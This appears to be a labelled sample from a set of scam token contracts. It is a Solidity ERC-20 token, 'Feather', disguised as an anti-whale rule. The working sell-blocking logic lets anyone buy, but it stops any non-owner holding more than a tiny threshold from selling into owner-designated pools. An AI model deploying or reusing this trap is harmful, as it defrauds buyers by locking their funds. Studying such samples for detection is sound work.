// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// "Anti-whale": nobody stops you buying above the limit, and nobody above it may sell.
contract HeavyWallet is TrapErc20V8 {
    uint256 public immutable maxWallet;
    mapping(address => bool) public pools;

    constructor() TrapErc20V8("Feather", "FTHR", 1e9 ether) {
        maxWallet = totalSupply() / 10_000_000;
    }

    function markPool(address pool) external onlyOwner {
        pools[pool] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (pools[to] && from != owner()) {
            require(balanceOf(from) <= maxWallet, "anti-whale");
        }
        super._transfer(from, to, value);
    }
}
